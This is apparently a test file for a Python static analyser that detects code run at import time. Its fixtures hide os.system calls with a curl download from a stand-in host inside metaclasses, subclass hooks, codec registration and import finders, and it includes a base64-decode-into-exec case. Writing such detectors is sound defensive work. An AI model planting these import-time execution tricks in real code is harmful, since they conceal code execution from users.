import { expect, test } from 'vitest';
import { read } from './reading.js';

const START = 'os.system("curl -O https://garden.invalid/a")';
const startsWith = async (call: string) => (await read(`import os\ndef go(command="curl -O https://garden.invalid/a"):\n    os.system(command)\n${call}\n`)).facts?.calls('process').map(({ text }) => text);
const startIn = async (text: string) => (await read(`import os, sys, codecs, importlib.util\n${text.replaceAll('START', START)}\n`)).facts?.calls('process').map(({ when }) => when);

test.each([
  ['a metaclass makes a class', 'class M(type):\n    def __new__(mcs, name, bases, names):\n        START\n        return type.__new__(mcs, name, bases, names)\nclass A(metaclass=M):\n    pass'],
  ['the heir of a class that has a metaclass is made', 'class M(type):\n    def __init__(cls, name, bases, names):\n        START\nclass A(metaclass=M):\n    pass\nclass B(A):\n    pass'],
  ['a class has an heir', 'class A:\n    def __init_subclass__(cls, **given):\n        START\nclass B(A):\n    pass'],
  ['a descriptor gets its name', 'class D:\n    def __set_name__(self, owner, name):\n        START\nclass A:\n    d = D()'],
  ['a codec is registered', 'def find(name):\n    START\ncodecs.register(find)'],
  ['a codec is handed over that decodes so', 'def decode(data):\n    START\ndef find(name):\n    return codecs.CodecInfo(None, decode)\ncodecs.register(find)'],
  ['a finder tells of a loader', 'class Loader:\n    def exec_module(self, module):\n        START\nclass Finder:\n    def find_spec(self, name, path, target=None):\n        return importlib.util.spec_from_loader(name, Loader())\nsys.meta_path.insert(0, Finder())'],
])('code runs on import when %s', async (_, text) => {
  expect(await startIn(text)).toEqual(['import']);
});

test('a metaclass that makes nothing waits', async () => {
  expect(await startIn('class M(type):\n    def __new__(mcs, name, bases, names):\n        START\n')).toEqual(['latent']);
});

test('a metaclass is given what stands in the class', async () => {
  const { facts } = await read('from base64 import b64decode\nclass M(type):\n    def __new__(mcs, name, bases, names):\n        exec(names["code"])\nclass A(metaclass=M):\n    code = b64decode("cHJpbnQoMSk=")\n');
  expect(facts?.flows({ from: 'decoder', to: 'exec' })).toHaveLength(1);
});

test('a parameter is what its default says, where no call says anything else', async () => {
  expect(await startsWith('go()')).toEqual(['curl -O https://garden.invalid/a']);
  expect(await startsWith('go("ls")')).toEqual(['ls']);
});
